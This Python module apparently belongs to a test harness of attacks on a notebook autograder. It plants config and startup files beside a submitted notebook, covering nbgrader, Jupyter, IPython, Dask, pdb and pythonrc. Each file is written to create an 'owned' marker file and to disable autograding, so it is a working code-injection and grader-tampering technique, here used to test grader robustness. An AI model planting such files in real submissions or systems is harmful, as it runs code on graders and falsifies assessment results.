"""Puts settings beside the notebook that nbgrader, Jupyter, IPython and Dask would take for the course's."""

from attacks.submitting import hand_in, notebook

HONEST = 0.0
NAMES = ("nbgrader_config.py", "jupyter_config.py", "jupyter_server_config.py", ".ipython/profile_default/startup/0.py",
         ".jupyter/jupyter_config.py", "distributed.yaml", ".pdbrc", ".pythonrc.py", "timestamp.txt")  # fmt: skip


def submit(submitted, targets):
    folder = hand_in(submitted, notebook(""))
    for name in NAMES:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(
            f"open({targets['submission'] + '/owned'!r}, 'w')\nc.Autograde.enabled = False\n"
        )
